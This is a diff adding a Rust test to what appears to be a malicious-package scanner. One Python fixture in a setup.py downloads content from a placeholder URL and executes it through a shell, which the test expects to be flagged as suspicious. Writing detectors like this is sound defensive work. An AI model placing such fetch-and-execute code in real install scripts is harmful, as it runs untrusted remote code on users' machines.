@@ -249,6 +249,26 @@ fn a_script_is_judged_by_what_it_hides() {
 }
 
 #[test]
+fn a_script_that_runs_what_it_fetches_is_for_review() {
+    let verdict = |source: &str| {
+        let mut budget = wb_core::Budget::default();
+        let program = wb_code::python::lift(source, Trigger::Import, &mut budget);
+        let content = Content { programs: vec![program.expect("it parses")], ..Content::default() };
+        crate::examine(&super::artifact("setup.py", "python"), &content, &mut budget).verdict
+    };
+    let head = "import subprocess, urllib.request\n";
+    let fetched = "data = urllib.request.urlopen('https://example.org/x').read()\n";
+    assert_eq!(
+        verdict(&format!("{head}{fetched}subprocess.Popen(data, shell=True)\n")),
+        Verdict::Suspicious
+    );
+    assert_eq!(
+        verdict(&format!("{head}{fetched}subprocess.run(['make', 'all'])\n")),
+        Verdict::Clean
+    );
+}
+
+#[test]
 fn pickles_that_change_what_they_import_are_found() {
     let mut program = program(Language::Pickle, Trigger::Load);
     let op = |number: u64, kind| Op { span: Span::new(number * 10, 2), number, kind };
